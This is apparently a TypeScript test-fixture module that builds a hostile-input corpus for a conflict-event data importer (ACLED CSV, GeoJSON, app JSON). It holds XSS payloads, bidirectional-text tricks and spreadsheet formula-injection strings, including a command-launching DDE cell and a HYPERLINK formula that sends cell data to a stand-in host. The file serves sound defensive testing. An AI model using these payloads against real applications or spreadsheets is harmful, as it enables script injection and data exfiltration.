/**
 * The hostile corpus's building blocks: the case list and its outcome helpers (`ok`, `bad`,
 * `refused`), the payloads (markup, bidi controls, formula cells), and writers of ACLED CSV,
 * GeoJSON and app JSON around the fixture row. The cases themselves are in the family modules.
 */
import Papa from 'papaparse';
import { ACLED_COLUMNS } from '../../src/interchange/formats/acledColumns.ts';
import { acledRow } from '../../src/interchange/testFixtures.ts';

/** One corpus file and what importing it must give. */
export interface CorpusCase {
  file: string;
  accepted: number;
  rejected: number;
  /** The whole file is refused (nothing read). */
  fatal: boolean;
  /** A passage of one of the report's messages ('' when the report must be empty). */
  message: string;
  /** Part of the browser sample (e2e/hostile.e2e.ts). */
  browser?: true;
}

export const cases: Array<CorpusCase & { content: string | Uint8Array }> = [];
export const add = (file: string, content: string | Uint8Array, outcome: Omit<CorpusCase, 'file'>): void => {
  cases.push({ file, content, ...outcome });
};
export const ok = (accepted: number, extra: Partial<CorpusCase> = {}): Omit<CorpusCase, 'file'> => ({
  accepted,
  rejected: 0,
  fatal: false,
  message: '',
  ...extra,
});
export const bad = (message: string, accepted = 0, rejected = 1, extra: Partial<CorpusCase> = {}): Omit<CorpusCase, 'file'> => ({
  accepted,
  rejected,
  fatal: false,
  message,
  ...extra,
});
export const refused = (message: string, extra: Partial<CorpusCase> = {}): Omit<CorpusCase, 'file'> => ({
  accepted: 0,
  rejected: 0,
  fatal: true,
  message,
  ...extra,
});

export const XSS = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(document.domain)</script>',
  '"><svg/onload=alert(1)>',
  "'><iframe src=javascript:alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  '{{constructor.constructor("alert(1)")()}}',
  '</textarea><img src=x onerror=alert(1)>',
];
export const BIDI = 'Shadak \u202Eevil\u202C \u2066isolated\u2069 \u200Fmark';
export const FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"Click")', '+cmd|" /C calc"!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
export const APP_COLUMNS = ['title', 'kind', 'date_precision', 'start_date', 'end_date', 'location_precision'];

/** ACLED CSV of rows (`over` applied to the fixture row, ids numbered), with optional extra columns. */
export const csv = (rows: Array<Record<string, string>>, extraColumns: readonly string[] = [], newline = '\n'): string => {
  const columns = [...ACLED_COLUMNS, ...extraColumns];
  const data = rows.map((over, i) => acledRow({ event_id_cnty: `H${i + 1}`, ...over }));
  return `${Papa.unparse({ fields: columns, data: data.map((r) => columns.map((c) => r[c] ?? '')) }, { newline })}${newline}`;
};
export const one = (over: Record<string, string>, extra: readonly string[] = []): string => csv([over], extra);
export const feature = (coordinates: unknown, props: Record<string, unknown> = {}, id?: unknown): Record<string, unknown> => ({
  type: 'Feature',
  ...(id === undefined ? {} : { id }),
  geometry: coordinates === null ? null : { type: 'Point', coordinates },
  properties: { id: 'g1', title: 'Clash', date: '2025-11-30', ...props },
});
export const geo = (...features: unknown[]): string => JSON.stringify({ type: 'FeatureCollection', features }, null, 1);
export const event = (over: Record<string, unknown> = {}): Record<string, unknown> => ({
  id: 'app-1',
  kind: 'incident',
  title: 'Attack near the border',
  summary: '',
  date: { start: '2025-11-30', precision: 'day' },
  location: { precision: 'point', coordinates: [71.55, 37.66], asReported: 'near Shadak' },
  sources: [{ sourceId: 'corpus-article', quote: 'Two people were attacked near the border.' }],
  ...over,
});
export const app = (...events: unknown[]): string => JSON.stringify(events, null, 1);
export const ID_RULE = 'expected an id of letters, digits and . _ : -';

export const utf16 = (text: string): Uint8Array => {
  const out = new Uint8Array(2 + text.length * 2);
  out.set([0xff, 0xfe]);
  for (let i = 0; i < text.length; i += 1) {
    out[2 + i * 2] = text.charCodeAt(i) & 0xff;
    out[3 + i * 2] = text.charCodeAt(i) >> 8;
  }
  return out;
};
